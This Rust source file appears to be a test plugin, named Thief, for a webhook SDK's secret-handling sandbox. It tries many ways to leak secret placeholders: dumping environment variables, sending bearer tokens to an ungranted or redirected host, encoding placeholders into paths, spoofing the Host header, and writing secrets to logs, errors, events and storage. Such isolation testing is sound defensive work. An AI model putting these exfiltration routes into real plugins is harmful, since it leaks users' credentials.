//! Tries every way to get at a secret, or to get one out.

use serde::Deserialize;
use switchboard_sdk::{
    Error, Event, Evidence, Identifier, Message, Result, Webhook, http, key_value, log, register, settings,
    signing, webhook,
};

struct Thief;
register!(Thief: webhook);

#[derive(Deserialize)]
struct Settings {
    base_url: String,
}

/// How a secret is written where the hub would write it in.
const TOKEN: &str = "{{secret:token}}";

impl Webhook for Thief {
    fn handle(request: webhook::Request) -> Result<webhook::Outcome> {
        let base = settings::get::<Settings>()?.base_url;
        let elsewhere = String::from_utf8_lossy(&request.body).into_owned();
        let all = [
            TOKEN,
            "{{basic:thief:token}}",
            "{{plain:thief:token}}",
            "{{secret:entry}}",
            "{{secret:signing}}",
        ];
        let said = match request.path.as_str() {
            "/settings" => settings::json(),
            "/environment" => format!("{:?} {:?}", std::env::vars().collect::<Vec<_>>(), std::env::args()),
            "/request" => format!("{:?} {:?} {:?}", request.headers, request.query, request.path),
            // The vendor sends back what it was sent, in its head and its body.
            "/echo" => told(http::get(format!("{base}/echo?key={TOKEN}")).bearer_secret("token")),
            "/echo-basic" => told(http::get(format!("{base}/echo")).basic_secret("thief", "token")),
            // To a host that was not granted, and to one that was with a secret that is not for it.
            "/elsewhere" => told(http::get(elsewhere).bearer_secret("token")),
            "/elsewhere-path" => told(http::get(format!("{elsewhere}/%7B%7Bsecret%3Atoken%7D%7D"))),
            "/not-for-it" => told(http::get(format!("{base}/echo")).bearer_secret("signing")),
            "/unheard-of" => told(http::get(format!("{base}/echo")).bearer_secret("entry-of-another")),
            // In a body nothing is written in, so that none can be stored with a vendor and fetched.
            "/body" => told(http::post(format!("{base}/echo")).body("text/plain", all.join(" "))),
            "/host-header" => told(
                http::get(format!("{base}/echo")).header("host", "elsewhere.example").bearer_secret("token"),
            ),
            // The answer sends the thief on to another host, and it takes the secret along.
            "/redirect" => {
                let answer = http::get(format!("{base}/redirect")).bearer_secret("token").send()?;
                let to = answer.header("location").unwrap_or_default().to_owned();
                format!("{} then {}", answer.status, told(http::get(to).bearer_secret("token")))
            }
            "/log" => {
                for text in all {
                    log::error(format!("thief {text}"));
                    println!("thief {text}");
                }
                "logged".to_owned()
            }
            "/error" => return Err(Error::other(all.join(" "))),
            "/misconfigured" => return Err(Error::misconfigured(all.join(" "))),
            "/event" => {
                let words = Message::new("stolen").text(all.join(" "));
                let from = Identifier::new("thief:person", TOKEN, Evidence::Verified);
                return Ok(webhook::Outcome::events([Event::message_received(1_000, words).from(from)]));
            }
            "/stored" => {
                key_value::set("stolen", all.join(" "), None)?;
                let kept = key_value::get_text("stolen")?.unwrap_or_default();
                format!("{kept} {:?}", key_value::get("secret:token")?)
            }
            // A MAC of chosen words, with the secret that may sign and with those that may not.
            "/sign" => ["signing", "token", "entry"]
                .map(|name| {
                    let signed = signing::sign(name, signing::Algorithm::HmacSha256, b"");
                    format!("{name}: {:?}", signed.map(|mac| signing::hex(&mac)))
                })
                .join(" "),
            "/verify" => {
                let answer = signing::verify("token", signing::Algorithm::HmacSha1, b"", b"");
                format!("{answer:?}")
            }
            other => format!("nothing is stolen by {other}"),
        };
        Ok(webhook::Reply::text(said).into())
    }
}

fn told(request: http::Request) -> String {
    match request.send() {
        Ok(answer) => format!("{} {:?} {}", answer.status, answer.headers, answer.text()),
        Err(error) => format!("{error:?}"),
    }
}
